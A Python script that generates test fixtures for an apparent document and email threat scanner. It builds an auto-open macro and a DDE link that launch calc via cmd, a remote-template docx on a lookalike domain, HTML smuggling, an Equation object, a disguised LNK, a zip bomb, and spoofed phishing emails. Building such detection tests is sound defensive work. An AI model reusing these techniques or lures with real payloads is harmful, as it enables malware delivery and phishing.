#!/usr/bin/env python3
"""Writes the documents and messages of the doc/mail tests into OUTDIR.

Everything is built here from scratch (no sample is copied from anywhere):
an OLE2 writer with an MS-OVBA "compressor" (literal tokens only, which is
valid compressed data), OOXML packages with zipfile, RTF, PDF, LNK, and
RFC 5322 messages. usage: gen_samples.py OUTDIR
"""
import base64
import io
import os
import struct
import sys
import zipfile

OUT = sys.argv[1]
os.makedirs(OUT, exist_ok=True)


def write(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


# ---- MS-OVBA: a CompressedContainer of literal-only chunks ----
def ovba_compress(data):
    out = bytearray(b"\x01")
    for c in range(0, max(len(data), 1), 4096):
        chunk = data[c:c + 4096]
        body = bytearray()
        for i in range(0, len(chunk), 8):
            body.append(0)  # flag byte: 8 literals
            body += chunk[i:i + 8]
        header = 0xB000 | ((len(body) + 2 - 3) & 0x0FFF)  # compressed, signature 0b011
        out += struct.pack("<H", header) + body
    return bytes(out)


# ---- OLE2 writer: 512-byte sectors, every stream in the big FAT ----
class Ole:
    def __init__(self):
        self.entries = [("Root Entry", 5, None, [])]  # name, type, data, children indexes

    def add(self, parent, name, data=None):
        kind = 2 if data is not None else 1
        self.entries.append((name, kind, data, []))
        idx = len(self.entries) - 1
        self.entries[parent][3].append(idx)
        return idx

    def build(self, fat_loop=False):
        sectors = []  # list of 512-byte blocks
        fat = {}
        start = {}

        def alloc(data):
            if not data:
                return 0xFFFFFFFE
            first = len(sectors)
            n = (len(data) + 511) // 512
            for i in range(n):
                sectors.append(data[i * 512:(i + 1) * 512].ljust(512, b"\0"))
                fat[first + i] = first + i + 1 if i + 1 < n else 0xFFFFFFFE
            return first

        for i, (name, kind, data, _) in enumerate(self.entries):
            if kind == 2:
                # streams >= 4096 bytes live in the FAT; pad small ones so no mini stream is needed
                padded = data.ljust(4096, b"\0") if len(data) < 4096 else data
                start[i] = (alloc(padded), len(padded))
        # directory: children of each storage as a right-leaning chain
        dirents = bytearray()
        for i, (name, kind, data, children) in enumerate(self.entries):
            e = bytearray(128)
            u = name.encode("utf-16-le")
            e[0:len(u)] = u
            struct.pack_into("<H", e, 0x40, len(u) + 2)
            e[0x42] = kind
            e[0x43] = 1
            struct.pack_into("<III", e, 0x44, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
            if children:
                struct.pack_into("<I", e, 0x4C, children[0])
            s, size = start.get(i, (0xFFFFFFFE if kind == 5 else 0, 0))
            struct.pack_into("<II", e, 0x74, s, size)
            dirents += e
        # siblings: chain each storage's children through the right pointer
        for _, _, _, children in self.entries:
            for a, b in zip(children, children[1:]):
                struct.pack_into("<I", dirents, a * 128 + 0x48, b)
        dir_start = alloc(bytes(dirents))
        n_fat = 1
        while (len(sectors) + n_fat) > n_fat * 128:
            n_fat += 1
        fat_start = len(sectors)
        for i in range(n_fat):
            sectors.append(b"")
            fat[fat_start + i] = 0xFFFFFFFD
        table = [fat.get(i, 0xFFFFFFFF) for i in range(n_fat * 128)]
        if fat_loop:
            table[dir_start] = dir_start  # the directory chain points back at itself
        raw = struct.pack("<%dI" % len(table), *table)
        for i in range(n_fat):
            sectors[fat_start + i] = raw[i * 512:(i + 1) * 512]
        h = bytearray(512)
        h[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
        struct.pack_into("<HHHHH", h, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
        struct.pack_into("<I", h, 0x2C, n_fat)
        struct.pack_into("<I", h, 0x30, dir_start)
        struct.pack_into("<I", h, 0x38, 4096)
        struct.pack_into("<II", h, 0x3C, 0xFFFFFFFE, 0)
        struct.pack_into("<II", h, 0x44, 0xFFFFFFFE, 0)
        for i in range(109):
            struct.pack_into("<I", h, 0x4C + 4 * i, fat_start + i if i < n_fat else 0xFFFFFFFF)
        return bytes(h) + b"".join(sectors)


def vba_dir(modules):
    """A dir stream (MS-OVBA 2.3.4.2) with what readers need."""
    rec = lambda rid, data: struct.pack("<HI", rid, len(data)) + data
    d = rec(0x0001, struct.pack("<I", 1))  # PROJECTSYSKIND
    d += rec(0x0003, struct.pack("<H", 1252))  # PROJECTCODEPAGE
    d += rec(0x0004, b"VBAProject")  # PROJECTNAME
    d += struct.pack("<HIIH", 0x0009, 4, 1, 0)  # PROJECTVERSION (its size field lies)
    d += rec(0x000F, struct.pack("<H", len(modules)))  # PROJECTMODULES
    for name in modules:
        d += rec(0x0019, name.encode())  # MODULENAME
        d += rec(0x001A, name.encode())  # MODULESTREAMNAME
        d += rec(0x0032, name.encode("utf-16-le"))
        d += rec(0x0031, struct.pack("<I", 0))  # MODULEOFFSET: source at 0
        d += rec(0x0021, b"")  # MODULETYPE procedural
        d += rec(0x002B, b"")  # terminator
    d += struct.pack("<HI", 0x0010, 0)
    return d


def biff_workbook(macro_sheet=False):
    rec = lambda rid, data: struct.pack("<HH", rid, len(data)) + data
    wb = rec(0x0809, struct.pack("<HHHHII", 0x600, 0x5, 0, 0, 0, 0))  # BOF
    name = b"Sheet1"
    wb += rec(0x0085, struct.pack("<IBB", 0, 0, 1 if macro_sheet else 0) + bytes([len(name), 0]) + name)
    wb += rec(0x000A, b"")  # EOF
    return wb


def xls_with_macro(source, macro_sheet=False):
    ole = Ole()
    ole.add(0, "Workbook", biff_workbook(macro_sheet))
    if source is not None:
        cur = ole.add(0, "_VBA_PROJECT_CUR")
        vba = ole.add(cur, "VBA")
        ole.add(vba, "dir", ovba_compress(vba_dir(["Module1"])))
        ole.add(vba, "Module1", ovba_compress(source.encode()))
        ole.add(vba, "_VBA_PROJECT", b"\xcc\x61\xff\xff\x00")
    return ole.build()


def zip_bytes(members, compression=zipfile.ZIP_DEFLATED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", compression) as z:
        for name, data in members:
            # a fixed date: the same bytes (and hashes) on every run
            z.writestr(zipfile.ZipInfo(name, (2026, 12, 7, 9, 0, 0)), data, compress_type=compression)
    return b.getvalue()


CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/>'
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
      '</Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
        '</Relationships>')


def docx(text, settings_rels=None):
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
           '<w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>' % text)
    members = [("[Content_Types].xml", CT), ("_rels/.rels", RELS), ("word/document.xml", doc)]
    if settings_rels:
        members.append(("word/_rels/settings.xml.rels",
                        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        'relationships/attachedTemplate" Target="%s" TargetMode="External"/></Relationships>'
                        % settings_rels))
        members.append(("word/settings.xml", '<w:settings xmlns:w="x"><w:attachedTemplate r:id="rId1"/></w:settings>'))
    return zip_bytes(members)


def equation_rtf():
    # OLE1 object header: version, format 2 (embedded), class name "Equation.3"
    cls = b"Equation.3\0"
    ole1 = struct.pack("<II", 0x00000501, 2) + struct.pack("<I", len(cls)) + cls + struct.pack("<II", 0, 0)
    ole1 += struct.pack("<I", 64) + b"\x1c\x00\x00\x00\x02\x00" + b"\x41" * 58
    hexdata = ole1.hex()
    return ("{\\rtf1\\ansi{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}\\objw380\\objh260"
            "{\\*\\objdata %s}}}" % hexdata).encode()


def lnk():
    h = bytearray(76)
    h[0:4] = struct.pack("<I", 0x4C)
    h[4:20] = bytes.fromhex("0114020000000000C000000000000046")
    return bytes(h) + b"\0" * 64


def pdf_js():
    return (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
            b"3 0 obj\n<< /S /JavaScript /JS (app.alert\\('x'\\);) >>\nendobj\n"
            b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")


# ---- documents ----
write("remote_template.docx", docx("List of persons under U.S. sanctions",
                                    "http://minzdrav-gov.ru/templates/sanctions.dotm"))
write("clean_memo.docx", docx("Staff meeting moved to Thursday, room 4."))
write("equation.rtf", equation_rtf())
write("autoexec_shell.xls", xls_with_macro(
    'Attribute VB_Name = "Module1"\r\nSub Workbook_Open()\r\n    Shell "cmd.exe /c calc.exe", vbHide\r\nEnd Sub\r\n'))
write("harmless_macro.xls", xls_with_macro(
    'Attribute VB_Name = "Module1"\r\nSub FormatTable()\r\n    Range("A1").Font.Bold = True\r\nEnd Sub\r\n'))
write("lnk_in.zip", zip_bytes([("invoice.pdf.lnk", lnk())]))


def xlsb_dde_link(app, topic):
    """A binary workbook whose external link part (BIFF12) is a DDE link:
    BrtBeginSupBook (record 360) with sbt 1, then the application and topic
    as XLWideStrings (MS-XLSB 2.4.52)."""
    def wide(t):
        return struct.pack("<I", len(t)) + t.encode("utf-16-le")
    body = struct.pack("<H", 1) + wide(app) + wide(topic)
    link = bytes([0xE8, 0x02, len(body)]) + body + bytes([0xCC, 0x04, 0x00])  # ... BrtEndSupBook
    return zip_bytes([("[Content_Types].xml", CT), ("_rels/.rels", RELS), ("xl/workbook.bin", b"\x83\x01\x00"),
                      ("xl/externalLinks/externalLink1.bin", link)])
write("javascript.pdf", pdf_js())
write("clean.pdf", b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
                   b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
write("smuggle.html", b"<!doctype html><html><body><script>var d=atob('TVqQAA==');"
                      b"var b=new Blob([d]);var a=document.createElement('a');a.href=URL.createObjectURL(b);"
                      b"a.download='invoice.iso';a.click();</script></body></html>")
# ---- bad input ----
write("fat_loop.doc", Ole().build(fat_loop=True))
write("dde_link.xlsb", xlsb_dde_link("cmd", "/c calc.exe"))
write("zip_bomb.zip", zip_bytes([("zeros.bin", b"\0" * (300 << 20))]))
nested = b"innermost"
for level in range(12):
    nested = zip_bytes([("level%d.zip" % level if level else "data.txt", nested)])
write("nested.zip", nested)
write("million_objects.pdf", b"%PDF-1.4\n" + b"0 0 obj\n" * 1000000 + b"%%EOF\n")
write("truncated.xls", xls_with_macro('Sub AutoOpen()\r\nEnd Sub\r\n')[:1100])


# ---- messages ----
def message(frm, subject, body, html=None, attachments=(), extra="", msgid=None, boundary="b1"):
    domain = frm.split("@")[-1].rstrip(">")
    lines = ["Return-Path: <%s>" % frm.split("<")[-1].rstrip(">"),
             "Received: from mx.example.net (mx.example.net [192.0.2.25]) by mail.minzdrav.gov.ru",
             "From: %s" % frm, "To: researcher@institute.example", "Subject: %s" % subject,
             "Date: Mon, 07 Dec 2026 09:00:00 +0300",
             "Message-ID: <%s@%s>" % (msgid or "m1", domain), "MIME-Version: 1.0"]
    if extra:
        lines.append(extra)
    lines.append('Content-Type: multipart/mixed; boundary="%s"' % boundary)
    lines.append("")
    lines.append("--%s" % boundary)
    lines.append("Content-Type: text/plain; charset=utf-8")
    lines.append("Content-Transfer-Encoding: base64")
    lines.append("")
    lines.append(base64.encodebytes(body.encode()).decode().strip())
    if html:
        lines += ["--%s" % boundary, "Content-Type: text/html; charset=utf-8",
                  "Content-Transfer-Encoding: quoted-printable", "", html]
    for name, data in attachments:
        lines += ["--%s" % boundary, 'Content-Type: application/octet-stream; name="%s"' % name,
                  'Content-Disposition: attachment; filename="%s"' % name,
                  "Content-Transfer-Encoding: base64", "", base64.encodebytes(data).decode().strip()]
    lines.append("--%s--" % boundary)
    return ("\r\n".join(lines) + "\r\n").encode()


def b_word(text):
    return "=?UTF-8?B?%s?=" % base64.b64encode(text.encode()).decode()


lure = "Dear colleague, please find the list of persons under U.S. sanctions attached."
with open(os.path.join(OUT, "remote_template.docx"), "rb") as f:
    rt = f.read()
with open(os.path.join(OUT, "clean_memo.docx"), "rb") as f:
    memo = f.read()
write("mail_lookalike_hyphen.eml",
      message('"%s" <info@minzdrav-gov.ru>' % b_word("Минздрав России"), "Sanctions list", lure,
              attachments=[("sanctions.docx", rt)]))
write("mail_homoglyph.eml", message("Press office <press@minzdrаv.gov.ru>", "Briefing", "See the briefing."))
write("mail_display_name.eml",
      message("%s <minzdrav.office@gmail.com>" % b_word("Министерство здравоохранения"), "Urgent", lure))
links = "".join('<p><a href="https://news.example.org/articles/%d">Article %d</a></p>' % (i, i) for i in range(40))
write("mail_newsletter.eml",
      message("Example News <newsletter@news.example.org>", "Weekly digest", "This week's articles.",
              html="<html><body>%s<a href=3D\"https://news.example.org/unsubscribe\">news.example.org</a>"
                   "</body></html>" % links.replace('="', '=3D"')))
write("mail_memo.eml", message("Anna Petrova <a.petrova@minzdrav.gov.ru>", "Staff meeting",
                               "The staff meeting moves to Thursday; the memo is attached.",
                               attachments=[("memo.docx", memo)]))
write("mail_link_mismatch.eml",
      message("Service desk <it@helpdesk-example.com>", "Password expiry", "Renew your password.",
              html='<a href=3D"http://198.51.100.7/login">https://portal.minzdrav.gov.ru</a>'
                   '<a href=3D"https://bit.ly/3xyz">renew</a>'))
deep = ["From: a@b.example", "Subject: deep", 'Content-Type: multipart/mixed; boundary="d0"', ""]
for i in range(1, 1000):
    deep += ["--d%d" % (i - 1), 'Content-Type: multipart/mixed; boundary="d%d"' % i, ""]
deep += ["--d999", "Content-Type: text/plain", "", "bottom"]
write("mail_mime_deep.eml", ("\r\n".join(deep) + "\r\n").encode())
write("mail_broken_encoding.eml", (
    "From: a@b.example\r\nSubject: broken\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
    "--x\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nSGVsbG8*!!@@ d29y===bGQ\r\n"
    "--x\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nbad =ZZ soft=\r\n"
    "--x\r\nContent-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%%\r\n").encode())


# ---- the same messages over SMTP, and the documents over HTTP, as captures (Ethernet/IPv4/TCP) ----
def tcp_capture(path, sessions, server_port):
    """sessions: lists of (from_client, bytes), one TCP connection each."""
    def csum(data):
        if len(data) % 2:
            data += b"\0"
        s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
        s = (s >> 16) + (s & 0xFFFF)
        s += s >> 16
        return ~s & 0xFFFF

    def frame(src, dst, sport, dport, seq, ack, flags, payload=b""):
        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0) + payload
        pseudo = struct.pack("!4s4sBBH", bytes(src), bytes(dst), 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, bytes(src), bytes(dst))
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        return b"\x02\0\0\0\0\x02" + b"\x02\0\0\0\0\x01" + b"\x08\x00" + ip + tcp

    out = bytearray(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
    t = 1796629200.0  # 2026-12-07 09:00 UTC

    def rec(data):
        nonlocal t
        t += 0.001
        out.extend(struct.pack("<IIII", int(t), int((t % 1) * 1e6), len(data), len(data)) + data)

    cli, srv = [10, 1, 0, 5], [10, 1, 0, server_port & 0xFF]
    for k, dialogue in enumerate(sessions):
        sport = 40000 + k
        cs, ss = 1000, 5000
        rec(frame(cli, srv, sport, server_port, cs, 0, 0x02))
        rec(frame(srv, cli, server_port, sport, ss, cs + 1, 0x12))
        cs += 1
        ss += 1
        rec(frame(cli, srv, sport, server_port, cs, ss, 0x10))
        for from_client, data in dialogue:
            for i in range(0, len(data), 1400):
                piece = data[i:i + 1400]
                if from_client:
                    rec(frame(cli, srv, sport, server_port, cs, ss, 0x18, piece))
                    cs += len(piece)
                else:
                    rec(frame(srv, cli, server_port, sport, ss, cs, 0x18, piece))
                    ss += len(piece)
        rec(frame(cli, srv, sport, server_port, cs, ss, 0x11))
        rec(frame(srv, cli, server_port, sport, ss, cs + 1, 0x11))
        rec(frame(cli, srv, sport, server_port, cs + 1, ss + 1, 0x10))
    write(path, bytes(out))


def smtp_dialogue(msg):
    frm = msg.split(b"Return-Path: <", 1)[1].split(b">", 1)[0] if b"Return-Path: <" in msg else b""
    body = msg.replace(b"\r\n.", b"\r\n..")
    return [(False, b"220 mail.minzdrav.gov.ru ESMTP\r\n"), (True, b"EHLO client.example.net\r\n"),
            (False, b"250 mail.minzdrav.gov.ru\r\n"), (True, b"MAIL FROM:<" + frm + b">\r\n"),
            (False, b"250 OK\r\n"), (True, b"RCPT TO:<researcher@institute.example>\r\n"),
            (False, b"250 OK\r\n"), (True, b"DATA\r\n"), (False, b"354 go ahead\r\n"),
            (True, body), (True, b".\r\n"), (False, b"250 OK queued\r\n"), (True, b"QUIT\r\n"),
            (False, b"221 bye\r\n")]


def http_dialogue(name, data):
    req = b"GET /files/" + name.encode() + b" HTTP/1.1\r\nHost: files.example.net\r\nUser-Agent: Mozilla/5.0\r\n\r\n"
    resp = (b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n"
            % len(data)) + data
    return [(True, req), (False, resp)]


# Every message over SMTP (mail_over_smtp.pcap: the k-th message on client
# port 40000+k), every document over HTTP (docs_over_http.pcap, likewise
# in the order of HTTP_DOCS); check.py reads the same lists.
WIRE = sorted(n for n in os.listdir(OUT) if n.endswith(".eml"))
tcp_capture("mail_over_smtp.pcap", [smtp_dialogue(open(os.path.join(OUT, n), "rb").read()) for n in WIRE], 25)
HTTP_DOCS = ["remote_template.docx", "equation.rtf", "autoexec_shell.xls", "lnk_in.zip", "javascript.pdf",
             "clean_memo.docx", "clean.pdf", "harmless_macro.xls", "zip_bomb.zip", "fat_loop.doc"]
tcp_capture("docs_over_http.pcap", [http_dialogue(n, open(os.path.join(OUT, n), "rb").read()) for n in HTTP_DOCS], 80)
